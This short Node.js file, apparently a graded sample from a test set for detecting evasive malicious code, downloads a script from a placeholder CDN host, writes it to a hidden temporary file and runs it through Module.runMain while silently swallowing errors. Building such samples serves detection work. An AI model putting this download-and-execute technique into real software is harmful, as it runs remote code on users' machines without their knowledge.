// evasion: a downloaded script written to a scratch file becomes process.argv[1] and is started by Module.runMain
// grade: very hard; does: download-exec
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');
const Module = require('module');

async function main() {
  const res = await fetch('https://cdn.example.org/agent/latest.js');
  const file = path.join(os.tmpdir(), `.agent-${process.pid}.js`);
  fs.writeFileSync(file, await res.text());
  process.argv[1] = file;
  Module.runMain();
}

main().catch(() => {});
